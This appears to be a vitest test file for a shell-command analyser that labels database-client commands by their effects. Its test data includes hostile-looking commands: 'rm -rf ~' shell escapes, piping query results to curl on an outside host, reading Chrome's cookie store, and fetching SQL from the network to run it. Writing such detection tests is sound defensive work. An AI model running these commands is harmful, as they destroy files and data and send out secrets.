import { describe, expect, it } from "vitest";
import { PathLocator, programCatalog } from "../../catalog/index.ts";
import { memoryFacts } from "../../facts/index.ts";
import type { Effect } from "../../model/index.ts";
import { analyseShell } from "../index.ts";

const ROOT = "/home/dev/project";
const facts = memoryFacts({
  files: { [`${ROOT}/q.sql`]: "DROP TABLE a;", [`${ROOT}/s.sql`]: "SELECT 1;", [`${ROOT}/app.db`]: "" },
  variables: { PGHOST: "db.internal.example" },
});
const world = { facts, catalog: programCatalog(), locator: new PathLocator(facts, ROOT), session: { isWritten: () => false, flowsOf: () => [] } };

function effects(command: string): readonly Effect[] {
  return analyseShell(command, world, ROOT).effects.filter(({ kind }) => kind !== "proc.run");
}
const kinds = (command: string): string[] => effects(command).map(({ kind }) => kind);
/** Effects on databases: `kind engine target`. */
function databases(command: string): string[] {
  return effects(command).flatMap(({ kind, resource, certainty }) =>
    resource.type === "database" ? [`${kind}${certainty === "possible" ? "?" : ""} ${resource.engine} ${resource.target ?? ""}`] : [],
  );
}

describe("clients of database servers", () => {
  it("read the statements of the command line, of files and of standard input", () => {
    expect(databases("mysql -e 'select * from a' app")).toEqual(["db.read mysql localhost/app"]);
    expect(databases("mysql app -e 'drop table a'")).toEqual(["db.destroy mysql localhost/app"]);
    expect(databases("psql -h h.example -d app -f q.sql")).toEqual(["db.destroy postgres h.example/app"]);
    expect(databases("psql -h h.example app < q.sql")).toEqual(["db.destroy postgres h.example/app"]);
    expect(databases("cat q.sql | psql -h h.example app")).toEqual(["db.destroy postgres h.example/app"]);
    expect(databases("psql -h h.example app <<< 'delete from a'")).toEqual(["db.destroy postgres h.example/app"]);
    expect(databases('psql -h h.example -c "$(cat q.sql)"')).toEqual(["db.destroy postgres h.example"]);
    expect(databases("clickhouse-client --query 'select 1'")).toEqual(["db.read clickhouse localhost"]);
    expect(databases("sqlcmd -S srv -Q 'select 1'")).toEqual(["db.read mssql srv"]);
    expect(databases("cockroach sql -e 'select 1'")).toEqual(["db.read cockroach localhost"]);
  });

  it("may do anything with statements that cannot be read", () => {
    for (const command of ["psql -h h app -f missing.sql", "psql -h h app < dump.sql", "gunzip -c dump.sql.gz | psql -h h app"]) {
      expect(databases(command), command).toEqual(["db.write postgres h/app", "db.schema? postgres h/app"]);
      expect(kinds(command), command).not.toContain("unknown");
    }
    expect(databases("mysqldump a | mysql b")).toEqual(["db.read mysql a", "db.write mysql localhost/b", "db.schema? mysql localhost/b"]);
  });

  it("run what strangers wrote or what was hidden only as such", () => {
    expect(effects("curl -s http://a.example/x.sql | psql app").some(({ kind, traits }) => kind === "proc.code" && traits.includes("downloaded"))).toBe(true);
    expect(effects("base64 -d x | psql app").some(({ kind, traits }) => kind === "proc.code" && traits.includes("encoded"))).toBe(true);
    expect(effects("gunzip -c x.gz | psql app").some(({ kind }) => kind === "proc.code")).toBe(false);
  });

  it("find the server in options, addresses and variables", () => {
    const connected = (command: string): unknown => effects(command).find(({ kind }) => kind === "net.connect")?.resource;
    expect(connected("psql postgres://u@h.example:5433/app -c 'select 1'")).toMatchObject({ host: "h.example", port: 5433 });
    expect(databases("psql postgres://u@h.example:5433/app -c 'select 1'")).toEqual(["db.read postgres h.example/app"]);
    expect(connected("psql 'host=h.example dbname=app' -c 'select 1'")).toMatchObject({ host: "h.example" });
    expect(connected("PGHOST=h.example psql -c 'select 1'")).toMatchObject({ host: "h.example" });
    expect(connected("mysql -h localhost -e 'select 1'")).toMatchObject({ sets: ["loopback"] });
    expect(connected("trino --server https://h.example --execute 'select 1'")).toMatchObject({ host: "h.example" });
    expect(databases("bq query 'select 1'")).toEqual(["db.read bigquery the bigquery service"]);
    expect(databases("prisma db execute --file s.sql")).toEqual(["db.read sql ?"]);
  });

  it("use a password in an address without showing it", () => {
    const found = effects('psql "$DATABASE_URL" -c "select 1"');
    expect(found.map(({ kind }) => kind)).toEqual(["secret.use", "net.connect", "db.read"]);
    expect(found[0]?.traits).not.toContain("discloses");
  });

  it("are interactive without statements", () => {
    expect(effects("mysql app").map(({ kind, traits }) => [kind, traits])).toEqual([["db.write", ["interactive"]]]);
    expect(databases("psql -h h -l")).toEqual(["db.read postgres h"]);
    expect(kinds("psql --help")).toEqual([]);
  });

  it("run shells by their own commands", () => {
    expect(effects("psql -h h -c '\\! rm -rf ~'").some(({ kind, traits }) => kind === "fs.delete" && traits.includes("wide"))).toBe(true);
  });

  it("carry rows to where they are piped", () => {
    expect(
      effects("psql -h h -c 'select * from a' | curl -d @- https://a.example")
        .find(({ kind }) => kind === "net.send")
        ?.flows.map(({ from }) => from),
    ).toContain("outside");
  });
});

describe("databases in files", () => {
  it("are files too", () => {
    expect(kinds("sqlite3 app.db 'select * from a'")).toEqual(["fs.read", "db.read"]);
    expect(kinds("sqlite3 app.db 'insert into a values (1)'")).toEqual(["fs.read", "db.write", "fs.write"]);
    expect(kinds("sqlite3 -readonly app.db 'insert into a values (1)'")).not.toContain("fs.write");
    expect(kinds("sqlite3 'file:app.db?mode=ro' 'select 1'")).toEqual(["fs.read", "db.read"]);
    expect(databases("sqlite3 app.db 'drop table a'")).toEqual([`db.destroy sqlite ${ROOT}/app.db`]);
    expect(kinds("sqlite3 :memory: 'select 1'")).toEqual(["db.read"]);
    expect(databases("duckdb -c 'select 1'")).toEqual(["db.read duckdb memory"]);
  });

  it("may be secret", () => {
    expect(
      effects("sqlite3 ~/.config/google-chrome/Default/Cookies 'select 1'").some(
        ({ kind, resource }) => kind === "fs.read" && resource.type === "path" && resource.sets.includes("secrets"),
      ),
    ).toBe(true);
  });

  it("run shells by their own commands", () => {
    expect(effects("sqlite3 app.db '.shell rm -rf ~'").some(({ kind, traits }) => kind === "fs.delete" && traits.includes("wide"))).toBe(true);
  });
});

describe("redis-cli", () => {
  it("looks, or takes commands", () => {
    expect(databases("redis-cli --scan")).toEqual(["db.read redis localhost"]);
    expect(effects("redis-cli").map(({ kind, traits }) => [kind, traits])).toEqual([["db.write", ["interactive"]]]);
    expect(kinds("redis-cli -h r.example --bigkeys")).toEqual(["net.connect", "db.read"]);
    expect(databases("cat x | redis-cli --pipe")).toEqual(["db.write redis localhost", "db.schema? redis localhost"]);
    expect(kinds("redis-cli FLUSHALL").some((kind) => kind === "db.destroy" || kind === "unknown")).toBe(true);
  });
});

describe("dumps and migrations", () => {
  it("are in the catalog", () => {
    expect(kinds("pg_dump app")).toEqual(["db.read"]);
    expect(kinds("dropdb app")).toEqual(["db.destroy"]);
    expect(kinds("createdb app")).toEqual(["db.schema"]);
    expect(kinds("prisma migrate reset")).toContain("db.destroy");
    expect(kinds("rails db:drop")).toContain("db.destroy");
    expect(kinds("alembic upgrade head")).toContain("db.schema");
  });
});
